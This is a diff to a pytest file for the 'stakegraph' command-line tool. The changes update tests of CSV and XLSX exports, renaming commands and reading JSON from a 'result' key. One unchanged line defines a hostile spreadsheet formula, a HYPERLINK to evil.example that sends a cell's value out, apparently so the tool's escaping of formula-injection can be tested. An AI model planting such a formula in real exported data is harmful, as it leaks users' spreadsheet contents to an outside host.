@@ -24,6 +24,7 @@ import openpyxl
 import pytest
 from typer.testing import CliRunner, Result
 
+from stakegraph.analyses import CATALOGUE
 from stakegraph.cli.main import app
 from stakegraph.export import (
     FORMULA_PREFIXES,
@@ -40,7 +41,7 @@ from stakegraph.samples.sample import DEFAULT_DIR as SAMPLE
 from stakegraph.store import EmbeddedStore
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
-ANALYZE = ["concentration", "dependencies", "groups", "exposures", "cofinancing", "contagion", "health", "lifecycle"]
+ANALYZE = list(CATALOGUE)  # every generated command
 runner = CliRunner()
 
 
@@ -105,7 +106,7 @@ def test_every_analyze_command_offers_csv_and_xlsx(command: str) -> None:
 # -- numbers -------------------------------------------------------------------------------------------------
 
 def test_concentration_csv_numbers_are_the_json_numbers(tmp_path: Path) -> None:
-    data = json.loads(ok("concentration", "tech_co", "--kinds", "buys_from", "--json").stdout)
+    data = json.loads(ok("concentration", "tech_co", "--kinds", "buys_from", "--json").stdout)["result"]
     res = ok("concentration", "tech_co", "--kinds", "buys_from", "--csv", str(tmp_path / "out"))
     shares_csv = tmp_path / "out" / "concentration-tech-co.csv"
     summary_csv = tmp_path / "out" / "concentration-summary-tech-co.csv"
@@ -127,8 +128,8 @@ def test_concentration_csv_numbers_are_the_json_numbers(tmp_path: Path) -> None:
 
 
 def test_portfolio_xlsx_numbers_are_numbers_and_equal_json(tmp_path: Path) -> None:
-    args = ("concentration", "--kinds", "buys_from", "--min-counterparties", "2", "--top", "1000")
-    rows = json.loads(ok(*args, "--json").stdout)["rows"]
+    args = ("portfolio-concentration", "--kinds", "buys_from", "--min-counterparties", "2", "--top", "1000")
+    rows = json.loads(ok(*args, "--json").stdout)["result"]["rows"]
     assert len(rows) < 1000  # every row is in the sheet
     ok(*args, "--xlsx", str(tmp_path / "p.xlsx"))
     ws = openpyxl.load_workbook(tmp_path / "p.xlsx")["concentration-portfolio"]
@@ -143,8 +144,8 @@ def test_portfolio_xlsx_numbers_are_numbers_and_equal_json(tmp_path: Path) -> No
 
 
 def test_contagion_tables_in_one_workbook_and_as_csv(tmp_path: Path) -> None:
-    data = json.loads(ok("contagion", "-d", "epc_main", "--json").stdout)  # the EPC's default reaches projects
-    res = ok("contagion", "-d", "epc_main", "--xlsx", str(tmp_path / "c.xlsx"), "--csv", str(tmp_path / "c"))
+    data = json.loads(ok("contagion", "epc_main", "--json").stdout)["result"]  # the EPC's default reaches projects
+    res = ok("contagion", "epc_main", "--xlsx", str(tmp_path / "c.xlsx"), "--csv", str(tmp_path / "c"))
     wb = openpyxl.load_workbook(tmp_path / "c.xlsx")
     stems = sorted(p.stem for p in (tmp_path / "c").glob("*.csv"))
     assert sorted(wb.sheetnames) == stems == ["contagion", "contagion-paths", "contagion-projects"]
@@ -214,7 +215,7 @@ def test_long_and_repeated_titles_in_a_real_workbook(tmp_path: Path) -> None:
 
 
 def test_segments_sheet_names_are_the_csv_stems(tmp_path: Path) -> None:
-    ok("lifecycle", "--segments", "--csv", str(tmp_path / "s"), "--xlsx", str(tmp_path / "s.xlsx"))
+    ok("segments", "--csv", str(tmp_path / "s"), "--xlsx", str(tmp_path / "s.xlsx"))
     stems = [p.stem for p in sorted((tmp_path / "s").glob("*.csv"))]
     assert sorted(openpyxl.load_workbook(tmp_path / "s.xlsx").sheetnames) == stems == [
         "parties-by-rating", "parties-by-risk-appetite", "parties-by-size", "segments"]
